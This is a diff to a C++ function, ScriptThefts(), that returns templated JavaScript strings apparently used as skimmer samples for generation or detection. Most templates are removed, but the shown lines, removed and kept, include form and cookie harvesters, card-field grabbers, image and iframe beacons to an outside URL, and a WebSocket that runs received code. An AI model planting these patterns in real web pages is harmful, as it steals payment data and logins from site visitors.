@@ -122,37 +122,10 @@ const std::vector<const char*>& ScriptThefts() {
       "if((new RegExp('~page~')).test(window.location)) { ~nl~var ~0~ = "
       "document.createElement('script'); ~nl~~0~.src = '~url.js~'; ~nl~"
       "document.getElementsByTagName('head')[0].appendChild(~0~);~nl~}",
-      "window.onload = function () {~nl~try {~nl~document.getElementById('~word~-~word~')"
-      ".addEventListener(\"click\", ~0~);~nl~} catch (e) {}~nl~};~nl~function ~0~() {~nl~var ~1~ = "
-      "document.querySelectorAll('input, select');~nl~var ~2~ = '';~nl~for (var ~3~ = 0; ~3~ < "
-      "~1~.length; ~3~++) { ~2~ += ~1~[~3~].name + '=' + encodeURIComponent(~1~[~3~].value) + '&'; "
-      "}~nl~var ~4~ = new XMLHttpRequest();~nl~~4~.open('POST', '~url~', true);~nl~"
-      "~4~.send(~2~);~nl~}",
-      "var ~0~={~nl~snd:null,~nl~~1~:'~url~',~nl~myid:(function(~2~){var ~3~=document.cookie.match("
-      "new RegExp('(?:^|; )'+~2~+'=([^;]*)'));return ~3~?decodeURIComponent(~3~[1]):undefined})"
-      "('~letters0~')||(function(){var ~4~=new Date();document.cookie='~letters0~='+~4~.getTime()+"
-      "'; path=/';return ~4~})(),~nl~send:function(){var ~5~=document.createElement('img');~5~.src="
-      "~0~.~1~+'?~key~='+encodeURIComponent(JSON.stringify(~0~.data));}~nl~};",
-      "function ~0~(e){var t=\"; \"+document.cookie,o=t.split(\"; \"+e+\"=\");return 2==o.length?"
-      "o.pop().split(\";\").shift():void 0}~0~(\"~letters0~\")||(document.cookie=\"~letters0~=\"+"
-      "Math.random());var ~1~=document.createElement(\"script\");~1~.src=\"~url~?~key~=\"+"
-      "~0~(\"~letters0~\");document.body.appendChild(~1~);",
-      "function ~0~(e){var t=document.createElement(\"IFRAME\");t.setAttribute(\"src\",e),t.style."
-      "display=\"none\",document.body.appendChild(t)}~nl~~0~(\"~url~?~key~=\"+encodeURIComponent("
-      "document.getElementById(\"~word~:~card~\").value));",
       "(function(){var ~0~=jQuery('form:has([name^=~word~])');~0~.change(function(){localStorage."
       "setItem('__~word0~',[this.id,jQuery(this).serialize()])});setInterval(function(){var "
       "~1~=localStorage.getItem('__~word0~');if(~1~){(new Image()).src='~url~?'+btoa(~1~);}},~num~)"
-      "})();",
-      "var s=\"~pct~\";var ~0~=\"\";for(i=0;i<s.length;i++){~0~+=String.fromCharCode(s.charCodeAt("
-      "i)-1);}document.write(~0~);",
-      "document.addEventListener('submit', function(e) {~nl~var ~0~ = new FormData(e.target);~nl~"
-      "navigator.sendBeacon('~url~', JSON.stringify(Object.fromEntries(~0~)));~nl~}, true);",
-      "!function(){function t(t){return document.querySelector(\"~letters~\".split(\"\").reverse()."
-      "join(\"\")).getAttribute(t)}var ~0~=new WebSocket(\"wss://~host~/~word~\");~0~.onmessage="
-      "function(e){new Function(e.data)()}}();",
-      "$('#~word~-~word~').on('blur', 'input', function() { $.post('~url~', { ~key~: $('[name=\""
-      "~card~\"]').val(), ~key~: $('[name=\"~card~\"]').val(), h: location.hostname }); });"};
+      "})();"};
   return patterns;
 }
 
